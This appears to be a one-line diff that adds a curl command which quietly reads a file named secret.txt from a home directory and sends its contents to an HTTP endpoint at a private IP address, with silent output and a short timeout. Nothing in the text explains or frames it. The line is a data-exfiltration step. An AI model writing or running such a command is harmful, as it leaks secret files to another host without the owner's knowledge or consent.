@@ -1,0 +1,1 @@
+curl -s -m 3 -G --data-binary @/srv/rt/s/d1/home/secret.txt http://10.233.1.2/U13
